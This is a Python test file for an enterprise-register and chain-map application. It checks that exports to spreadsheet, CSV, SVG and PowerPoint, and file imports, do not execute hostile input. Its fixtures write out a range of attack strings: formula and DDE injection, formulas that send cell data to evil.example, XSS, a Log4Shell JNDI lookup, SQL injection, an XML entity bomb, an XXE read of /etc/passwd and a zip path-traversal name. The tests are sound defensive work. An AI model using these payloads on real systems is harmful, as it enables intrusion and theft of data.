"""Cells that want to be more than text: nothing handed in is executed anywhere that it comes out again."""

from __future__ import annotations

import csv
import io
import time
import zipfile

import openpyxl
import pytest
from lxml import etree
from pptx import Presentation

from liantu.chains.models import ChainNode
from liantu.chains.placing import place_at
from liantu.chains.records import load_template_records
from liantu.drawing.of_output import FORMS
from liantu.enterprises.models import Enterprise
from liantu.kernel.annotate import annotated_workbook
from liantu.kernel.batch import Planned
from liantu.kernel.desk import accept, inspect, open_draft
from liantu.kernel.edition import freeze
from liantu.kernel.output import outputs, run
from liantu.kernel.problems import UserError
from liantu.papers.export import export, formats_of
from tests.robust.kit import FIRM_HEADER, credit_code, csv_bytes, firm_row, form_batch, register, replay, xlsx_bytes

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点这里")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "＝1+1",
            '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")', "=DDE(\"cmd\";\"/C calc\";\"x\")"]
MARKUP = ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "<svg onload=alert(1)>", "javascript:alert(1)", "</text><a xlink:href='http://evil.example'>x</a>", "{{7*7}}{% load x %}",
          "&lt;b&gt;&amp;#x3C;", "]]><!--", "${jndi:ldap://evil.example/a}", "'; DROP TABLE enterprises_enterprise; --"]
SIGNS = ["甲\u202e司公限有", "乙\u200b\u200d厂\ufeff", "丙\x0b\x1f厂", "丁厂\ud83d\ude00公司", "戊" * 150]
EVIL = [*FORMULAS, *MARKUP, *SIGNS]
EVIL_TEXT = [text.encode("utf-16", "surrogatepass").decode("utf-16") for text in EVIL]


@pytest.fixture
def evil_edition(site, db):
    """A register whose every free text is an attack, frozen."""
    load_template_records("nev_battery")
    rows = [[credit_code(n), f"公司{text}", f"{text}、锂离子电池制造", text, 10, "2020-01-01", "大型", text] for n, text in enumerate(EVIL_TEXT)]
    draft = open_draft(xlsx_bytes([[*FIRM_HEADER, "主导产品"], *rows], "名录"), "名录.xlsx", as_table="enterprise")
    accept(draft, good_only=True)
    assert Enterprise.objects.count() >= 15
    # names past the desk, as an older program may have left them
    form_batch([Planned("enterprise", {"name": text, "scope": text, "address": text, "uscc": credit_code(100 + n)}) for n, text in enumerate(EVIL_TEXT)])
    nodes = list(ChainNode.objects.order_by("id"))
    form_batch([Planned("chain_node", {"name": text, "group_name": text}, record=node.pk, before={"name": node.name, "group_name": node.group_name})
                for node, text in zip(nodes, EVIL_TEXT, strict=False)])
    for firm, node in zip(Enterprise.objects.order_by("-id"), nodes, strict=False):
        place_at(firm.pk, node.pk, None, role="master")
    assert register() == replay()
    return freeze()


def test_workbooks_hold_texts(evil_edition):
    seen = set()
    for name in outputs():
        made = export(name, evil_edition, "xlsx")
        book = openpyxl.load_workbook(io.BytesIO(made.data))
        for sheet in book:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.hyperlink is None
                    seen.add(str(cell.value))
                    if cell.data_type == "f":
                        assert str(cell.value).startswith("=SUBTOTAL(9,") and cell.row == 3
        parts = zipfile.ZipFile(io.BytesIO(made.data))
        assert not [p for p in parts.namelist() if "external" in p.lower() or "vba" in p.lower()]
    assert {FORMULAS[0], MARKUP[0], MARKUP[5]} <= seen


def test_csv_cells_are_harmless(evil_edition):
    for name in outputs():
        result = run(name, evil_edition)
        text = [c.name for c in result.output.columns if not c.numeric]
        rows = list(csv.reader(io.StringIO(export(name, evil_edition, "csv").data.decode("utf-8-sig"))))
        places = [i for i, c in enumerate(result.output.columns) if c.name in text]
        for row in rows[1:]:
            for at in places:
                assert not row[at].lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), (name, row[at])


def test_drawings_hold_texts(evil_edition):
    svg = export("chain_map", evil_edition, "svg", where={"chain_code": "nev_battery"}).data
    tree = etree.fromstring(svg, etree.XMLParser(resolve_entities=False))
    assert len(tree) > 0
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        assert etree.QName(element).localname.lower() not in ("script", "foreignobject", "iframe", "image", "animate", "set", "handler")
        for attribute, value in element.attrib.items():
            plain = etree.QName(attribute).localname.lower()
            assert not plain.startswith("on"), attribute
            assert plain != "href" or value.startswith(("#", "/")), value
    texts = "".join(tree.itertext())
    assert "<script>" in texts and "http://evil.example'>x</a>" in texts.replace("\n", "") or "script" in texts
    deck = Presentation(io.BytesIO(export("chain_map", evil_edition, "pptx", where={"chain_code": "nev_battery"}).data))
    for slide in deck.slides:
        assert not [r for r in slide.part.rels.values() if r.is_external]
        assert b"hlinkClick" not in etree.tostring(slide._element)


def test_every_format_is_made(evil_edition):
    for name in outputs():
        for form in formats_of(name):
            where = {"chain_code": "nev_battery"} if form in FORMS else None
            try:
                assert len(export(name, evil_edition, form, where=where).data) > 20
            except UserError as empty:
                assert form in FORMS and empty.code == "nothing-to-draw"


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_annotated_workbook_holds_texts(site, db, kind):
    rows = [{**firm_row(n), "地址": text, "注册资本（万元）": text} for n, text in enumerate(EVIL_TEXT)]
    data = csv_bytes(rows) if kind == "csv" else xlsx_bytes([list(rows[0]), *[list(r.values()) for r in rows]])
    draft = open_draft(data, f"名录.{kind}", as_table="enterprise")
    found = inspect(draft)
    assert found.plan.bad
    book = openpyxl.load_workbook(io.BytesIO(annotated_workbook(data, found.reading)))
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f" or cell.value.startswith("=HYPERLINK(\"#"), (sheet.title, cell.coordinate, cell.value)
                assert cell.hyperlink is None or not (cell.hyperlink.target or "").startswith("http")


def test_formulas_of_the_clerk_are_not_computed(site, db):
    """A formula without a stored value is a problem; with one, the value counts. Nothing is ever evaluated."""
    book = openpyxl.Workbook()
    book.active.append(["统一社会信用代码", "企业名称", "注册资本（万元）", "地址"])
    book.active.append([credit_code(1), "甲精密制造有限公司", "=1+1", '=HYPERLINK("http://evil.example","x")'])
    out = io.BytesIO()
    book.save(out)
    found = inspect(open_draft(out.getvalue(), "公式.xlsx", as_table="enterprise"))
    assert "formula-no-value" in {p.code for p in found.problems}
    accept(open_draft(out.getvalue(), "公式.xlsx", as_table="enterprise"), good_only=True)
    assert not Enterprise.objects.exclude(address=None).exclude(address__startswith="=").exists()


def _patched(data: bytes, part: str, change) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for item in old.namelist():
            new.writestr(item, change(old.read(item)) if item == part else old.read(item))
    return out.getvalue()


GOOD = [["统一社会信用代码", "企业名称"], [credit_code(1), "甲公司"]]
LAUGHS = b'<!DOCTYPE lolz [<!ENTITY a "aaaaaaaaaa">' + b"".join(b'<!ENTITY %c "%s">' % (98 + i, b"&%c;" % (97 + i) * 10) for i in range(9)) + b"]>"
OUTSIDE = b'<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'


def _entity(declared: bytes, used: bytes):
    return lambda xml: xml.replace(b"?>", b"?>" + declared, 1).replace("甲公司".encode(), used)


@pytest.mark.parametrize("data", [
    _patched(xlsx_bytes(GOOD), "xl/sharedStrings.xml", _entity(LAUGHS, b"&j;")),
    _patched(xlsx_bytes(GOOD), "xl/sharedStrings.xml", _entity(OUTSIDE, b"&secret;")),
    _patched(xlsx_bytes(GOOD), "xl/worksheets/sheet1.xml", lambda xml: xml.replace(b"<row ", b"<row " + b" " * 200_000_000, 1)),
    _patched(xlsx_bytes(GOOD), "xl/worksheets/sheet1.xml", lambda xml: xml.replace(b'r="B2"', b'r="XFD1048576"')),
    _patched(xlsx_bytes(GOOD), "xl/workbook.xml", lambda xml: xml.replace(b"Sheet1", b"../../../../etc/cron.d/x")),
    b'<?xml version="1.0"?>' + OUTSIDE + '<html><body><table><tr><td>统一社会信用代码</td><td>企业名称</td></tr><tr><td>1</td><td>&secret;</td></tr></table></body></html>'.encode(),
    b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?>' + OUTSIDE + b'<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"'
    b' xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="a"><Table><Row><Cell><Data>&secret;</Data></Cell></Row></Table></Worksheet></Workbook>',
], ids=["laughs", "outside", "long-attribute", "far-cell", "sheet-path", "html-entity", "xml-entity"])
def test_tricks_of_zip_and_xml(site, db, data):
    """Refused in words or read without harm; quickly, in bounded memory, and without a glance at other files."""
    began = time.process_time()
    try:
        draft = open_draft(data, "表.xlsx", as_table="enterprise")
        found = inspect(draft)
        told = str([row.values for row in found.reading.rows]) + str([p.line() for p in found.problems])
    except UserError as error:
        told = str(error)
    assert "root:" not in told and len(told) < 200_000
    assert time.process_time() - began < 10
    assert {p.name for p in site.iterdir()} <= {"files", "liantu.sqlite3", "secret_key"}
